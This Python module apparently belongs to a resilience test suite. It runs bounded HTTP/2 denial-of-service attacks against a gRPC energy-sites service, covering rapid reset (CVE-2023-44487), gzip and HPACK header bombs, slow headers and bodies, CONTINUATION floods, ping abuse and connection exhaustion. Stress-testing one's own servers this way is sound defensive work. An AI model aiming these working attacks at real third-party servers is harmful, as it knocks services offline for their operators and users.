"""The attacks: what a hostile client does to one HTTP/2 port.

Each function takes a Target and `scale`, 1 for the short form, attacks, and returns a Counter: what
its connections have seen, and how many the peer `cut`. Each is bounded in count and in time, and ends
by itself.
"""

import collections
import concurrent.futures
import contextlib
import resource
import struct
import time
import zlib

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from attacks.http2 import FRAME, Connection, Cut, StubbornConnection

CREATE_SITE = "/energysites.v1.Sites/CreateSite"
GET_SITE = "/energysites.v1.Sites/GetSite"
LIST_ENTRIES = "/energysites.v1.LiveData/ListLiveDataEntries"
EXPORT = "/energysites.v1.LiveData/ExportLiveData"

MIB = 1 << 20
PAGE_OF_1000 = b"\x10\xe8\x07"  # ListLiveDataEntriesRequest with page_size 1,000.
HOLD_SECONDS = 4  # How long an attack stays that is not about numbers.
HEADERS_SECONDS = 12  # More than the 10 that Envoy gives to headers.
OPEN_SECONDS = 20  # How long connections are opened.


def message(body, compressed=False):
    """A gRPC message as it stands in DATA frames."""
    return struct.pack("!BI", compressed, len(body)) + body


def on_connections(count, attack):
    """Runs `attack(seen)` `count` times at once; returns all that was seen, and what was `cut`."""

    def run(_):
        seen = collections.Counter()
        try:
            attack(seen)
        except Cut:
            seen["cut"] += 1
        return seen

    with concurrent.futures.ThreadPoolExecutor(count) as threads:
        return sum(threads.map(run, range(count)), collections.Counter())


def hold(connection, seconds):
    """Keeps a connection open and reads nothing but the news that it is cut."""
    limit = time.monotonic() + seconds
    while (rest := limit - time.monotonic()) > 0:
        connection.receive(rest)


def rapid_reset(target, scale=1):
    """CVE-2023-44487: calls that are taken back at once."""

    def attack(seen):
        with contextlib.closing(Connection(target, seen=seen)) as connection:
            for first in range(1, 10_000 * scale, 200):
                frames = []
                for stream in range(first, first + 200, 2):
                    frames += [connection.open(stream, GET_SITE), RstStreamFrame(stream, 8)]
                connection.send(*frames)
                connection.discard()

    return on_connections(6, attack)


def oversized_messages(target, scale=1):
    """Messages of 64 MiB, sixteen times what a server takes."""
    data = message(bytes(64 * MIB))

    def attack(seen):
        with contextlib.closing(Connection(target, seen=seen)) as connection:
            connection.send(connection.open(1, CREATE_SITE))
            connection.upload(1, data, seconds=8 * scale)

    return on_connections(4, attack)


def gzip_bombs(target, scale=1):
    """Messages of 250 KiB that are 256 MiB when they are inflated."""
    compressor = zlib.compressobj(wbits=31)
    bomb = b"".join(compressor.compress(bytes(MIB)) for _ in range(256)) + compressor.flush()
    data = message(bomb, compressed=True)

    def attack(seen):
        with contextlib.closing(StubbornConnection(target, seen=seen)) as connection:
            for stream in range(1, 8 * scale, 2):
                connection.send(connection.open(stream, CREATE_SITE, ("grpc-encoding", "gzip")))
                connection.upload(stream, data, seconds=10)
                connection.until_gone({stream}, seconds=10)

    return on_connections(4, attack)


def slow_headers(target, scale=1):
    """Headers that come byte by byte and never end."""

    def attack(seen):
        for _ in range(scale):
            with contextlib.closing(Connection(target, seen=seen)) as connection:
                connection.greet()
                headers = HeadersFrame(1, connection.block(GET_SITE)).serialize()
                for byte in headers[:-1]:
                    connection.send(bytes([byte]))
                    connection.receive(HEADERS_SECONDS / len(headers))

    return on_connections(100, attack)


def slow_bodies(target, scale=1):
    """Many calls at once, whose messages come byte by byte and never end."""

    def attack(seen):
        with contextlib.closing(Connection(target, seen=seen)) as connection:
            streams = range(1, 100, 2)
            for stream in streams:
                connection.send(connection.open(stream, CREATE_SITE))
                connection.send(DataFrame(stream, struct.pack("!BI", 0, 4 * MIB)))
            for _ in range(10 * scale):
                connection.send(*(DataFrame(stream, b"\x0a") for stream in streams))
                connection.receive(HOLD_SECONDS / 10)

    return on_connections(20, attack)


def unfinished_messages(target, scale=1):
    """Large messages that come fast but for their end, which comes byte by byte."""
    data = message(bytes(4 * MIB))[: -64 * 1024]

    def attack(seen):
        with contextlib.closing(StubbornConnection(target, seen=seen)) as connection:
            streams = range(1, 100, 2)
            for stream in streams:
                connection.send(connection.open(stream, CREATE_SITE))
                connection.upload(stream, data, seconds=10, end=False)
            for _ in range(10 * scale):
                left = [stream for stream in streams if stream not in connection.gone]
                connection.send(*(DataFrame(stream, b"\0") for stream in left))
                connection.receive(HOLD_SECONDS / 10)

    return on_connections(4, attack)


def never_reads(target, scale=1):
    """Large answers asked for over and over, with no window to send them into."""

    def attack(seen):
        no_window = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
        with contextlib.closing(Connection(target, no_window, seen)) as connection:
            for stream in range(1, 200 * scale, 2):
                path = EXPORT if stream % 10 == 1 else LIST_ENTRIES
                body = b"" if path == EXPORT else PAGE_OF_1000
                data = DataFrame(stream, message(body), flags=["END_STREAM"])
                connection.send(connection.open(stream, path), data)
            with contextlib.suppress(Cut):
                hold(connection, HOLD_SECONDS * scale)

    return on_connections(10, attack)


def ping_abuse(target, scale=1):
    """PINGs, whose answers are not read."""

    def attack(seen):
        with contextlib.closing(Connection(target, seen=seen)) as connection:
            pings = PingFrame(0, b"12345678").serialize() * 500
            for _ in range(40 * scale):
                connection.send(pings)
            hold(connection, HOLD_SECONDS)

    return on_connections(6, attack)


def endless_headers(target, field, frames, connections):
    """Headers of this field over and over, in CONTINUATION frames without end."""
    frame = ContinuationFrame(1, field * (FRAME // len(field))).serialize()

    def attack(seen):
        with contextlib.closing(Connection(target, seen=seen)) as connection:
            connection.greet()
            connection.send(HeadersFrame(1, connection.block(GET_SITE)))
            for _ in range(frames):
                connection.send(frame)
                connection.receive(0)
            hold(connection, HOLD_SECONDS)

    return on_connections(connections, attack)


def continuation_flood(target, scale=1):
    """Headers that go on in CONTINUATION frames without end."""
    # A literal without indexing: `x-nothing` with a value of 100 bytes.
    field = b"\x00\x09x-nothing\x64" + b"v" * 100
    return endless_headers(target, field, 1000 * scale, connections=6)


def header_bombs(target, scale=1):
    """HPACK: a header of 4,000 bytes that is named by one byte, 12,000 times a call."""
    # Stored as the newest entry of the dynamic table, whose index is 62.
    stored = b"\x40\x06x-bomb" + b"\x7f\xa1\x1e" + b"v" * 4000

    def attack(seen):
        with contextlib.closing(StubbornConnection(target, seen=seen)) as connection:
            streams = range(1, 40 * scale, 2)
            for stream in streams:
                block = connection.block(GET_SITE) + (stored + b"\xbe" * 12_000)
                connection.send(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))
                connection.receive(0)
            connection.until_gone(set(streams), seconds=10)

    return on_connections(6, attack)


def one_byte_fields(target, scale=1):
    """Header fields of one byte each, without end."""
    return endless_headers(target, b"\x82", MIB * scale // FRAME, connections=20)


def open_calls(target, scale=1):
    """Calls by the thousand, none of which ever brings its message."""

    def attack(seen):
        with contextlib.closing(StubbornConnection(target, seen=seen)) as connection:
            for stream in range(1, 2000 * scale, 2):
                connection.send(connection.open(stream, CREATE_SITE))
                connection.receive(0)
            hold(connection, HOLD_SECONDS)

    return on_connections(20, attack)


def many_connections(target, scale=1):
    """1,200 connections that stay open; `served` are those that the peer has greeted."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 2400 * scale), most))
    seen = collections.Counter()
    with contextlib.ExitStack() as connections:
        opened, limit = [], time.monotonic() + OPEN_SECONDS
        for _ in range(1200 * scale):
            if time.monotonic() > limit:
                break  # The peer lets them wait.
            try:
                connection = contextlib.closing(Connection(target, seen=seen))
                opened.append(connections.enter_context(connection))
            except Cut:
                seen["cut"] += 1
        limit = time.monotonic() + HOLD_SECONDS
        for connection in opened:
            try:
                if connection.receive(max(0, limit - time.monotonic())):
                    seen["served"] += 1
            except Cut:
                seen["cut"] += 1
        time.sleep(max(0, limit - time.monotonic()))
    return seen


ALL = [
    rapid_reset, oversized_messages, gzip_bombs, slow_headers, slow_bodies, unfinished_messages,
    never_reads, ping_abuse, continuation_flood, header_bombs, many_connections,
]  # fmt: skip
# Several hundred MiB on the bare port, as deploy/README.md says.
FOR_ENVOY = [one_byte_fields, open_calls]
